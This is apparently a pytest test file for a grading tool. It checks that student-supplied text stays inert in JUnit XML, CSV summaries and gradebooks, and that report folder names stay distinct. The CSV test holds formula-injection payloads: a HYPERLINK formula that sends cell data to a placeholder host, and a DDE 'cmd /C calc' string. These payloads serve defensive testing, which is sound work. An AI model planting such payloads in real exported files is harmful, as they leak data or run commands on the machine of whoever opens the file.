"""Outputs a student's text reaches stay well-formed and inert (issue 15, trust boundaries)."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from grader.facts.results import CheckResult, Feedback, Status, SubmissionReport, assemble
from grader.intake.names import name_all, plain_name
from grader.intake.submission import resolve
from grader.report import gradebook, junit, summary_csv
from grader.report.cells import safe_cell

CONTROL = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\ufffe\udcff"


def report(name: str, message: str = "", **facts: object) -> SubmissionReport:
    fb = Feedback(summary=f"summary {message}", found=message, evidence=f"log: {message}")
    checks = [
        CheckResult("build.succeeds", Status.FAILED, 0, 2, fb.as_text(), fb),
        CheckResult("http.root_text", Status.ERROR, 0, 2, message, None),
    ]
    return assemble(name, "tp6", checks, lang="en", facts=dict(facts))


def test_junit_stays_well_formed_xml_whatever_the_student_printed() -> None:
    _, text = junit.render(report(f"alice{CONTROL}", f"bad\x1b[31m red {CONTROL}"))
    root = ET.fromstring(text.encode("utf-8"))  # raises on a character XML 1.0 forbids
    suite = root.find("testsuite")
    assert suite is not None and suite.get("name", "").startswith("alice\\x00\\x01")
    failure = root.find(".//failure")
    assert failure is not None and "bad\\x1b[31m red" in (failure.text or "")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.example/?"&A1,"see")'
    reports = [report(evil, student=f"{start}SUM(1+1)*cmd|' /C calc'!A0", email=evil)]
    for render in (summary_csv.render, gradebook.render):
        _, text = render(reports)
        for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
            assert row[0] == "'" + evil.replace("\r", "\n")  # still one cell of one row


def test_numbers_are_not_mistaken_for_formulas() -> None:
    assert [safe_cell(v) for v in ("-1", "+2.5", "3", "-", "-x", "")] == [
        "-1", "+2.5", "3", "'-", "'-x", ""]  # fmt: skip


def test_gradebook_is_keyed_by_the_submission_never_the_declared_identity() -> None:
    reports = [report("alice", student="bob", email="bob@example.edu"), report("bob")]
    _, text = gradebook.render(reports)
    header, *rows = list(csv.reader(text.splitlines()))
    assert header[0] == "submission"
    assert [r[0] for r in rows] == ["alice", "bob"]  # one row per folder, whatever is declared
    book = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert book["alice"]["student"] == "bob"  # shown as declared...
    assert book["bob"]["student"] == ""  # ...and not made up when not declared


def _zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("Dockerfile", "FROM python:3.11-slim\n")
    return path


def test_submissions_with_the_same_name_get_distinct_report_folders(tmp_path: Path) -> None:
    for folder in ("class/a/alice", "class/b/alice", "class/c/alice", "class/c/Bob"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "Dockerfile").write_text("FROM python:3.11-slim\n")
    _zip(tmp_path / "class/c/alice.zip")
    paths = resolve([tmp_path / "class/a", tmp_path / "class/b", tmp_path / "class/c"])
    named = name_all(paths)
    names = [n.name for n in named]
    assert len({n.casefold() for n in names}) == len(names) == 5
    assert names == ["a_alice", "b_alice", "Bob", "c_alice", "c_alice.zip"]
    assert name_all(paths) == named  # deterministic
    assert named[0].shared_with and not named[2].shared_with


def test_grade_dot_is_named_after_the_real_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "alice-tp6").mkdir()
    monkeypatch.chdir(tmp_path / "alice-tp6")
    assert plain_name(Path(".")) == "alice-tp6"
    assert name_all([Path(".")])[0].name == "alice-tp6"
    assert plain_name(Path("..") / "alice-tp6") == "alice-tp6"
